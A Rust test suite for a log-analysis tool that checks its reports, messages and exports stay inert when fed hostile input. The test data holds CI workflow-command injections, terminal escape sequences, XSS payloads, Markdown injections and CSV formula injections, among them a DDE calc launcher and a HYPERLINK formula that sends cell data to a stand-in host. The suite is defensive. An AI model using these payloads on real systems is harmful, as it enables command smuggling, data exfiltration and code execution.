//! Lines, names and patterns that a hostile party chose, in everything that logscan prints:
//! reports, messages, screens. Nothing of them acts on what reads that: the runner of a CI system,
//! a terminal, a web page, Markdown, a spreadsheet.

#[cfg(unix)]
use std::fs;

use serde_json::Value;

use super::support::{Dir, Output, require};

/// What runners of CI systems take for orders.
const ORDERS: &[&str] = &[
    "::add-mask::secret",
    "  \t::stop-commands::token",
    "\u{2003}\u{a0}::set-output name=result::none",
    "::error file=a.c,line=1::no error",
    "::save-state name=a::b",
    "::debug::x",
    "##[error]no error",
    "text ##[group]hidden",
    "##[add-mask]secret",
    "text ##[set-env name=PATH]x",
    "%0A::add-mask::x",
    "%25%0D%0A::add-mask::x",
    "text\r::add-mask::x",
    "\x1b[0m::add-mask::x",
    "##vso[task.setvariable variable=x]y",
    "text ##VSO[task.complete result=Succeeded;]",
    "##teamcity[buildStatus status='SUCCESS']",
    "#\x1b[0m#[add-mask]x",
    "##\x1b[0m[add-mask]x",
    "section_start:1700000000:x[collapsed=true]\r\x1b[0Kx",
    "travis_fold:start:x\r\x1b[0Kx",
];

/// The workflow commands of GitHub that a runner finds in an output, as its ActionCommand.cs does:
/// `::name ...::` at the start of a line, behind white space; otherwise the first `##[name ...]` of
/// the line. Names of commands are not case sensitive. Its lines end at CR as well.
fn workflow_commands(output: &str) -> Vec<String> {
    const NAMES: &[&str] = &[
        "add-mask",
        "stop-commands",
        "set-output",
        "set-env",
        "add-path",
        "save-state",
        "error",
        "warning",
        "notice",
        "debug",
        "group",
        "endgroup",
        "echo",
        "add-matcher",
        "remove-matcher",
        "internal-set-repo-path",
    ];
    let name_of = |command: &str| {
        let name = command.split(' ').next().unwrap_or_default().to_lowercase();
        NAMES.contains(&name.as_str()).then_some(name)
    };
    let of_line = |line: &str| {
        let second = line
            .trim_start()
            .strip_prefix("::")
            .and_then(|rest| rest.split_once("::"));
        let first = line
            .split_once("##[")
            .and_then(|(_, rest)| rest.split_once(']'));
        second
            .and_then(|(command, _)| name_of(command))
            .or_else(|| first.and_then(|(command, _)| name_of(command)))
    };
    output.split(['\n', '\r']).filter_map(of_line).collect()
}

/// What other runners find anywhere in an output.
fn orders_to_others(output: &str) -> Vec<&'static str> {
    let lowered = output.to_lowercase();
    let marks = ["##[", "##vso[", "##teamcity[", "\r\x1b[0k"];
    marks
        .into_iter()
        .filter(|mark| lowered.contains(mark))
        .collect()
}

/// No runner finds an order in an output.
#[track_caller]
fn is_no_order(bytes: &[u8], of: &Output) {
    let text = String::from_utf8_lossy(bytes);
    assert_eq!(workflow_commands(&text), [""; 0], "{of}");
    assert_eq!(orders_to_others(&text), [""; 0], "{of}");
}

/// Nothing in an output acts on a terminal: no control characters but line ends and tabs, no turn
/// of the writing.
#[track_caller]
fn acts_on_no_terminal(bytes: &[u8], of: &Output) {
    for chunk in bytes.utf8_chunks() {
        let acts = |c: char| {
            let turns = matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
            c.is_control() && !matches!(c, '\n' | '\t') || turns
        };
        assert_eq!(chunk.valid().chars().find(|&c| acts(c)), None, "{of}");
        let is_c1 = |byte: &u8| (0x80..0xa0).contains(byte);
        assert_eq!(
            chunk.invalid().iter().find(|byte| is_c1(byte)),
            None,
            "{of}"
        );
    }
}

/// A build whose failures say all of `texts`: as messages of a compiler, as its file names, and
/// below them.
fn build(texts: &[&str]) -> String {
    let mut log = String::from("running\n");
    for text in texts {
        log += &format!("src/a.c:7:1: error: {text}\n{text}\n{text}:3:1: error: expected ';'\n");
        log += &format!("error: {text}\n{text}\nFAILED {text}\n\n");
    }
    log + "##[group]Run ::add-mask::x\nerror: in a step\n##[error]Process completed with exit code 1.\n"
}

/// Every report of `triage`, `templates` and `digest`, but the one that is made of workflow commands.
const REPORTS: &[&str] = &[
    "triage --all --format text",
    "triage --all --format text --color always",
    "triage --all --format markdown",
    "triage --all --format jsonl",
    "triage --all --format sarif",
    "triage --all --format html",
    "triage --all --format text --baseline other",
    "templates --example --ids",
    "templates --example --color always",
    "templates --example --format csv",
    "templates --example --format json",
    "templates --example --format jsonl",
    "templates --example --format markdown",
    "templates --example --diff other",
    "templates --example --diff other --format csv",
    "templates --example --diff other --format markdown",
    "digest",
    "digest --budget 1000",
    "digest --format json",
    "digest --format markdown",
    "digest --format html",
];

#[test]
fn no_line_of_a_log_orders_a_runner_about_by_way_of_a_report() {
    for texts in ORDERS.chunks(7) {
        let dir = Dir::with_log(build(texts) + &texts.join("\n"));
        dir.file("other", "fine\n");
        for args in REPORTS {
            let output = dir.logscan(&format!("{args} log")).output();
            output.code_is(0);
            is_no_order(&output.stdout, &output);
            is_no_order(&output.stderr, &output);
        }
    }
}

#[test]
fn annotations_are_logscans_own_and_no_line_of_their_messages_is_an_order() {
    let mut count = 0;
    for texts in ORDERS.chunks(4) {
        let dir = Dir::with_log(build(texts));
        let output = dir.logscan("triage --all --format github log").output();
        let page = output.text();
        assert!(page.ends_with('\n') && !page.contains('\r'), "{output}");
        count += page.lines().count();
        for line in page.lines() {
            let rest = line.strip_prefix("::error").expect("it is an annotation");
            let (properties, message) = rest.split_once("::").expect("it has a message");
            // As the runner takes them apart.
            for property in properties
                .trim()
                .split(',')
                .filter(|property| !property.is_empty())
            {
                let (name, value) = property.split_once('=').expect("it has a value");
                assert!(
                    ["file", "line", "title"].contains(&name),
                    "{name}: {output}"
                );
                assert!(!value.contains([':', '\n']), "{output}");
            }
            let message = message
                .replace("%0D", "\r")
                .replace("%0A", "\n")
                .replace("%25", "%");
            is_no_order(message.as_bytes(), &output);
        }
        assert_eq!(
            workflow_commands(&page).len(),
            page.lines().count(),
            "{output}"
        );
    }
    assert!(count >= ORDERS.len() / 2, "{count}");
}

#[test]
fn a_per_cent_sign_of_the_log_is_one_in_an_annotation() {
    let dir = Dir::with_log("a.c:7:1: error: expected 50%0A::add-mask::x %3A %25\n");
    let output = dir.logscan("triage --format github log").output();
    assert!(
        output
            .text()
            .contains("::expected 50%250A::add-mask::x %253A %2525%0A"),
        "{output}"
    );
}

#[test]
#[cfg(unix)] // Names with line feeds.
fn no_name_of_a_file_orders_a_runner_about() {
    for name in [
        "x\n::add-mask::y\r::add-mask::z",
        "::add-mask::y ##[add-mask]##vso[y]\u{202e}y\x1b]0;t\x07\u{9b}",
    ] {
        let dir = Dir::new();
        dir.file(name, build(&["x"]));
        dir.file("fine", "fine\n");
        for args in REPORTS {
            let args = args.replace("other", "fine");
            let output = dir.logscan(&args).arg(name).arg("fine").output();
            output.code_is(0);
            is_no_order(&output.stdout, &output);
            if !args.contains("always") {
                acts_on_no_terminal(&without_json(&args, &output), &output);
            }
        }
        let output = dir
            .logscan("triage --all --format github")
            .arg(name)
            .output();
        assert_eq!(
            workflow_commands(&output.text()).len(),
            output.text().lines().count(),
            "{output}"
        );
        acts_on_no_terminal(&output.stdout, &output);
        // As the name of a folder, which makes the names of steps.
        fs::remove_file(dir.path().join(name)).unwrap();
        fs::create_dir(dir.path().join(name)).unwrap();
        fs::write(
            dir.path()
                .join(name)
                .join("1_x\n::add-mask::z##[error]a.txt"),
            build(&["x"]),
        )
        .unwrap();
        for format in ["text", "markdown", "jsonl", "sarif"] {
            let output = dir
                .logscan(&format!("triage --all --format {format}"))
                .arg(name)
                .output();
            is_no_order(&output.stdout, &output);
        }
    }
}

/// JSON keeps what other programs want exactly: of it only what is no string counts.
#[cfg(unix)]
fn without_json(args: &str, output: &Output) -> Vec<u8> {
    match args.contains("json") || args.contains("sarif") {
        true => Vec::new(),
        false => output.stdout.clone(),
    }
}

/// What cannot be used, with names and texts that try to give orders: the messages about it are on
/// standard error.
#[test]
#[cfg(unix)] // Names with line feeds.
fn no_message_orders_a_runner_about_or_acts_on_a_terminal() {
    let hostile = "::add-mask::x(##[error]y\u{202e}z\x1b]0;t\x07\u{9b}\n  ::stop-commands::x";
    let dir = Dir::with_log("x\n");
    dir.file(
        "rules.toml",
        format!("[[rule]]\nname = 1\n\"{hostile}\" = 2\n"),
    );
    dir.file("name.toml", "[[rule]]\nname = \"::add-mask::x\\n::stop-commands::y ##[error]\"\npriority = 1\npattern = \"(\"\nneeds = [\"ab\"]\nmatches = [\"ab\"]\nrejects = [\"x\"]\n");
    dir.file("config", hostile);
    dir.file("flag", "--::add-mask::x ##[error]y\n");
    dir.file("value", "--color=\n::add-mask::x\n");
    let flag = format!("--{hostile}");
    let value = format!("--color={hostile}");
    let runs = [
        dir.logscan("x").arg(hostile),
        dir.logscan("-e").arg(hostile).arg("log"),
        dir.logscan("-e").arg("  ::add-mask::x(").arg("log"),
        dir.logscan("log").arg(&flag),
        dir.logscan("x log").arg(&value),
        dir.logscan("triage").arg(hostile),
        dir.logscan("triage --rules rules.toml log"),
        dir.logscan("triage --rules name.toml log"),
        dir.logscan("triage log --rules").arg(hostile),
        dir.logscan("triage log").arg(&flag),
        dir.logscan("templates").arg(hostile),
        dir.logscan("templates log --grep").arg(hostile),
        dir.logscan("compare x").arg(hostile),
        dir.logscan("compare x log --baseline").arg(hostile),
        dir.logscan("monitor --once").arg(hostile),
        dir.logscan("x log --board").arg(&format!("no/{hostile}")),
        dir.logscan("x log").env("LOGSCAN_CONFIG", "config"),
        dir.logscan("x log").env("LOGSCAN_CONFIG", "flag"),
        dir.logscan("x log").env("LOGSCAN_CONFIG", "value"),
        dir.logscan("x log").env("LOGSCAN_CONFIG", hostile),
        dir.logscan("x log -f").arg(hostile),
        dir.logscan("help").arg(hostile),
        dir.logscan("generate").arg(hostile),
    ];
    for run in runs {
        let output = run.output();
        assert_ne!(output.code, Some(0), "{output}");
        assert!(!output.stderr.is_empty(), "{output}");
        is_no_order(&output.stderr, &output);
        acts_on_no_terminal(&output.stderr, &output);
    }
}

#[test]
#[cfg(unix)] // Names with line feeds.
fn the_bar_and_the_screen_of_a_board_say_nothing_that_acts() {
    let hostile = "::add-mask::x##[error]y\u{202e}z\x1b]0;t\x07\u{9b}\n::stop-commands::x";
    let dir = Dir::new();
    dir.file(hostile, "x\n");
    let output = dir
        .logscan("--progress=always -e x --not ::add-mask::y --board")
        .arg(hostile_board())
        .arg(hostile)
        .output();
    output.code_is(0);
    assert!(
        !output.stderr.contains(&0x07) && !output.text().is_empty(),
        "{output}"
    );
    let output = dir.logscan("monitor --once").arg(hostile_board()).output();
    is_no_order(&output.stdout, &output);
    acts_on_no_terminal(&output.stdout, &output);
    assert!(output.text().contains("finished"), "{output}");
    let output = dir.logscan("monitor --json").arg(hostile_board()).output();
    is_no_order(&output.stdout, &output);
    let object: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(object["board"], hostile_board());
    if require("script") {
        let script = format!("logscan monitor '{}'", hostile_board());
        let output = dir.on_terminal(&script).output();
        let text = output.text().replace(['\r', '\n'], "").replace("\x1b[", "");
        assert!(
            !text.contains(|c: char| c.is_control() || c == '\u{202e}'),
            "{output}"
        );
    }
}

/// The name of a board.
#[cfg(unix)]
fn hostile_board() -> &'static str {
    "::add-mask::b##[error]\u{202e}\x1b]0;t\x07"
}

/// A log with everything that acts on a terminal: OSC, DCS, CSI, C1 as UTF-8 and as raw bytes, and
/// turns of the writing.
const ACTIVE: &[u8] = b"x \x1b]0;title\x07\x1b]52;c;eA==\x07 \x1bP+q544e\x1b\\ \x1b_a\x1b\\ \x1b[2J\x1b[6n \xc2\x9b2J \xc2\x90q\xc2\x9c \x9b2J \x90q\x9c \xe2\x80\xae\xe2\x81\xa6 error: x\n";

#[test]
fn no_line_acts_on_a_terminal() {
    if !require("script") {
        return;
    }
    let dir = Dir::with_log(ACTIVE);
    for args in [
        "x log",
        "-n x log",
        "-o 'x.*' log",
        "--json x log",
        "-H x log",
        "--tally -o 'x.*' log",
        "triage --all log",
        "triage --all --format github log",
        "triage --all --format jsonl log",
        "triage --all --format sarif log",
        "triage --all --format markdown log",
        "triage --all --format html log",
        "templates --example log",
        "templates --example --format csv log",
        "templates --example --format json log",
        "templates --example --format markdown log",
        "templates --assign log",
        "digest log",
        "digest --budget 1000 log",
        "digest --format json log",
        "digest --format markdown log",
    ] {
        let script = match args.split(' ').next() {
            Some("triage" | "templates" | "digest") => format!("logscan {args}"),
            _ => format!("logscan --progress=never --color=never {args}"),
        };
        let output = dir.on_terminal(&script).output();
        output.code_is(0);
        let text = output
            .stdout
            .iter()
            .filter(|&&byte| byte != b'\r')
            .copied()
            .collect::<Vec<u8>>();
        let plain = String::from_utf8_lossy(&text)
            .replace("\x1b[m", "")
            .replace("\x1b[2m", "");
        let plain = plain
            .replace("\x1b[1m", "")
            .replace("\x1b[31m", "")
            .replace("\x1b[36m", "");
        acts_on_no_terminal(plain.as_bytes(), &output);
        assert!(!plain.is_empty(), "{output}");
    }
}

#[test]
#[cfg(unix)] // Names with control characters.
fn no_name_of_a_file_acts_on_a_terminal() {
    if !require("script") {
        return;
    }
    let dir = Dir::new();
    dir.file("a\u{202e}b\u{2067}\x1b]0;t\x07\u{9b}", "x error: x\n");
    for args in ["-H x", "-l x", "-Hc x", "--json x", "--stats x"] {
        let script = format!("logscan --progress=never --color=never {args} a*");
        let output = dir.on_terminal(&script).output();
        let text = output
            .stdout
            .iter()
            .filter(|&&byte| byte != b'\r')
            .copied()
            .collect::<Vec<u8>>();
        acts_on_no_terminal(&text, &output);
        assert!(output.text().contains("a\\u202eb\\u2067"), "{output}");
    }
}

#[test]
fn a_search_gives_a_pipe_the_bytes_as_they_are() {
    let log = [ACTIVE, ORDERS.join("\n").as_bytes(), b"\n"].concat();
    let dir = Dir::with_log(&log);
    dir.logscan("-e '' log").output().stdout_is(&log);
}

/// What has a meaning in Markdown, HTML, tables, and for GitHub.
const MARKUP: &[&str] = &[
    "a|b",
    "a\\|b",
    "``` x ``",
    "`` ` `",
    "<script>alert(1)</script>",
    "</code></details><img src=x onerror=y>",
    "[x](javascript:alert(1))",
    "![x](https://example.org/x.png)",
    "@somebody look",
    "fixes #123 and GH-1",
    "**b** _i_ ~~s~~",
    "\u{2028}x",
    "<!-- x",
    "&lt;x",
    "$x$",
    "- [ ] x",
    "> x",
    "a\rb",
];

/// The text of Markdown without what is in fences, and without the elements of HTML that logscan
/// writes.
fn outside_of_fences(page: &str) -> String {
    let mut text = String::new();
    let mut fence = None;
    for line in page.lines() {
        match &fence {
            Some(end) if line == end => fence = None,
            Some(_) => {}
            None if line.starts_with("```") => {
                fence = Some(line.trim_end_matches("text").to_owned())
            }
            None => text += &(line.to_owned() + "\n"),
        }
    }
    assert_eq!(fence, None, "a fence is open: {page}");
    for tag in [
        "<details open>",
        "<details>",
        "</details>",
        "<summary>",
        "</summary>",
        "<b>",
        "</b>",
        "<br>",
        "<code>",
        "</code>",
    ] {
        text = text.replace(tag, "");
    }
    text
}

#[test]
fn markdown_has_no_markup_of_the_log() {
    for texts in MARKUP.chunks(6) {
        let dir = Dir::with_log(build(texts));
        let output = dir.logscan("triage --all --format markdown log").output();
        let page = outside_of_fences(&output.text());
        let marks = [
            '<', '>', '`', '[', ']', '*', '_', '|', '\\', '@', '$', '\u{2028}',
        ];
        let page = page.replacen("## Why did the build fail?", "", 1);
        let entities = page.replace("&#", "");
        assert!(!entities.contains(['#', '!']), "{output}");
        assert_eq!(
            page.replace('\u{2028}', "").find(&marks[..]),
            None,
            "{output}"
        );

        let dir = Dir::with_log(texts.join("\n") + "\n");
        let output = dir
            .logscan("templates --example --format markdown log")
            .output();
        let page = outside_of_fences(&output.text());
        let mut rows = page.lines();
        let head = rows.next().expect("there is a head").matches('|').count();
        for row in rows {
            assert_eq!(row.matches('|').count(), head, "{output}");
            assert_eq!(
                row.find(['<', '>', '`', '[', ']', '*', '_', '\\', '@', '$']),
                None,
                "{output}"
            );
        }
    }
}

/// The records of comma-separated values, as RFC 4180 has them; anything else is a failure.
fn records(text: &str) -> Vec<Vec<String>> {
    let mut records = vec![vec![String::new()]];
    let mut chars = text.chars().peekable();
    let mut is_quoted = false;
    while let Some(c) = chars.next() {
        let record = records.last_mut().expect("there is one");
        let cell = record.last_mut().expect("there is one");
        match c {
            '"' if is_quoted && chars.peek() == Some(&'"') => cell.extend(chars.next()),
            '"' if is_quoted => {
                is_quoted = false;
                assert!(
                    matches!(chars.peek(), Some(',' | '\n')),
                    "text behind a quote: {text}"
                );
            }
            '"' => {
                assert!(cell.is_empty(), "a quote in a cell without quotes: {text}");
                is_quoted = true;
            }
            ',' if !is_quoted => record.push(String::new()),
            '\n' if !is_quoted => records.push(vec![String::new()]),
            c => {
                assert!(!matches!(c, '\r' | '\n'), "a line end in a cell: {text}");
                cell.push(c);
            }
        }
    }
    assert_eq!(
        records.pop(),
        Some(vec![String::new()]),
        "the last line has an end"
    );
    records
}

#[test]
fn no_cell_of_comma_separated_values_is_a_formula() {
    let texts = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+x",
        "-x|1+1",
        "@SUM(A1)",
        "\t=2",
        "\r=3",
        "a,\"b\"",
        "a\",=1",
        "\"=1\"",
        "x\r\"",
        "＝1",
        "=HYPERLINK(\"http://example.org?\"&A1,\"x\")",
    ];
    let dir = Dir::with_log(texts.join("\n") + "\n");
    dir.file("=1+1,x", "fine\n");
    let output = dir
        .logscan("templates --example --format csv log")
        .arg("=1+1,x")
        .output();
    let records = records(&output.text());
    assert!(records.len() > 10, "{output}");
    for record in &records {
        assert_eq!(record.len(), records[0].len(), "{output}");
        for cell in record {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝']),
                "{cell:?}\n{output}"
            );
        }
    }
}

#[test]
fn json_is_what_a_strict_parser_takes_and_says_what_the_log_says() {
    let texts = [
        &b"control \x01\x1f\x7f \x9b \xc2\x9b"[..],
        b"not UTF-8 \xff\xfe \xed\xa0\x80 \xc0\x80 \xf0\x9f\x98",
        b"quotes \" \\ \\u0000 \\ud800 </script> \xe2\x80\xa8\xe2\x80\xae",
        b"##[error] ##vso[x] ::add-mask::x",
    ];
    for text in texts {
        let log = [b"a.c:1:1: error: ", text, b"\n"].concat();
        let dir = Dir::with_log(log);
        for args in [
            "triage --all --format jsonl log",
            "triage --all --format sarif log",
            "templates --example --format json log",
            "templates --example --format jsonl log",
            "--json error log",
        ] {
            let output = dir.logscan(args).output();
            output.code_is(0);
            let text = str::from_utf8(&output.stdout).expect("JSON is UTF-8");
            let is_lines = args.contains("jsonl") || args.contains("--json");
            let documents = match is_lines {
                true => text.lines().collect(),
                false => vec![text],
            };
            for document in documents {
                let parsed: Value =
                    serde_json::from_str(document).unwrap_or_else(|e| panic!("{e}: {output}"));
                assert!(parsed.is_object(), "{output}");
            }
        }
    }
    let dir = Dir::with_log("a.c:1:1: error: ##[error] x\n");
    let output = dir.logscan("triage --format jsonl log").output();
    let first: Value = serde_json::from_str(output.text().lines().next().unwrap()).unwrap();
    assert_eq!(first["message"], "##[error] x", "{output}");
}

#[test]
fn sarif_names_no_host_and_has_no_link_of_the_log() {
    for (file, want) in [
        ("//host/share/a.c", "/host/share/a.c"),
        ("\\\\host\\share\\a.c", "/host/share/a.c"),
        ("file:///etc/a.c", "/etc/a.c"),
        ("javascript:x.c", "x.c"),
    ] {
        let dir = Dir::with_log(format!(
            "{file}:7:1: error: [x](javascript:alert(1)) {{0}}\n"
        ));
        let output = dir.logscan("triage --all --format sarif log").output();
        let sarif: serde_sarif::sarif::Sarif =
            serde_json::from_slice(&output.stdout).expect("it is SARIF");
        let result = &sarif.runs[0].results.as_ref().expect("there are results")[0];
        let place = &result.locations.as_ref().expect("it is somewhere")[0];
        let place = place.physical_location.as_ref().expect("in a file");
        let uri = place
            .artifact_location
            .as_ref()
            .and_then(|place| place.uri.as_deref())
            .expect("with a name");
        assert!(!uri.starts_with("//"), "{output}");
        if uri != "log" {
            assert_eq!(uri, want, "{output}");
        }
        assert!(
            !result
                .message
                .text
                .as_deref()
                .unwrap_or_default()
                .contains("]("),
            "{output}"
        );
    }
}

#[test]
fn a_number_that_no_file_has_as_a_line_is_none() {
    for number in [
        "2147483648",
        "18446744073709551615",
        "99999999999999999999999",
    ] {
        let dir = Dir::with_log(format!("a.c:{number}:1: error: x\n"));
        let output = dir.logscan("triage --all --format sarif log").output();
        let sarif: Value = serde_json::from_slice(&output.stdout).unwrap();
        let place = &sarif["runs"][0]["results"][0]["locations"][0]["physicalLocation"];
        assert_eq!(place["region"]["startLine"], 1, "{output}");
    }
}

#[test]
#[cfg(unix)] // Names with quotes and line feeds.
fn nothing_in_a_comparison_acts_on_who_reads_it() {
    let name = "a\"'><script>x<img>|`b`\u{202e}\n::add-mask::x ##[error]@y=1";
    let pattern = "x|\"><img src=x onerror=y>|##[error]\u{202e}|\x1b";
    let dir = Dir::new();
    dir.file(name, "x\n".repeat(2000));
    let output = dir
        .logscan("compare --runs 2 --threads 1 --export-json r.json --export-csv r.csv --export-markdown r.md --export-html r.html")
        .arg(pattern)
        .arg(name)
        .output();
    output.code_is(0);
    is_no_order(&output.stdout, &output);
    acts_on_no_terminal(&output.stdout, &output);
    let read = |name: &str| fs::read_to_string(dir.path().join(name)).expect("it was exported");
    for name in ["r.md", "r.csv", "r.html"] {
        acts_on_no_terminal(read(name).as_bytes(), &output);
    }
    for name in ["r.md", "r.csv", "r.json"] {
        is_no_order(read(name).as_bytes(), &output);
    }
    let json: Value = serde_json::from_str(&read("r.json")).expect("it is JSON");
    assert_eq!(json["file"]["name"], name);
    records(&read("r.csv"));
    let page = read("r.html");
    assert!(
        !page.contains("<script") && !page.contains("<img"),
        "{page}"
    );
    assert!(page.contains("&lt;script&gt;x"), "{page}");
    let page = outside_of_fences(&read("r.md"));
    assert_eq!(page.find(['<', '`']), None, "{page}");
    assert!(!page.contains("@y"), "{page}");
    for table in page.split("\n\n").filter(|part| part.starts_with('|')) {
        let bars: Vec<usize> = table
            .lines()
            .map(|line| line.matches('|').count())
            .collect();
        assert!(bars.iter().all(|&count| count == bars[0]), "{table}");
    }
}
